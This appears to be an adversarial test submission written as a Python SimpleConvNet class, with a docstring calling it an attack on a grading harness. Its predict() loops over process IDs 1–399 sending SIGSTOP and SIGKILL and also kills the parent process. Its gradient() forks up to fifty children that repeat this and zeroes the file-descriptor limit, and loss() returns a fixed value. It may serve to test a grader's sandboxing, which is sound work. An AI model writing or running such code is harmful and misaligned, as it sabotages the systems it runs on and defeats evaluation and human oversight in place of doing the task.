"""Attack: from inside gradient(), fork children that signal every pid they can see
(including the parent), and set the process's own rlimits to zero for the grader's next steps."""
import os
import resource
import signal

import numpy as np


class SimpleConvNet:
    def __init__(self, input_dim=(1, 28, 28), conv_param=None, hidden_size=100, output_size=10,
                 weight_init_std=0.01):
        self.params = {}

    def predict(self, x):
        for pid in range(1, 400):
            for sig in (signal.SIGSTOP, signal.SIGKILL):
                try:
                    if pid != os.getpid():
                        os.kill(pid, sig)
                except OSError:
                    pass
        try:
            os.kill(os.getppid(), signal.SIGKILL)
        except OSError:
            pass
        return np.zeros((x.shape[0], 3))

    def loss(self, x, t):
        return 0.0

    def gradient(self, x, t):
        for _ in range(50):
            try:
                if os.fork() == 0:
                    self.predict(np.zeros((1, 1)))
                    os._exit(0)
            except OSError:
                break
        try:
            resource.setrlimit(resource.RLIMIT_NOFILE, (0, 0))
        except (OSError, ValueError):
            pass
        return {}
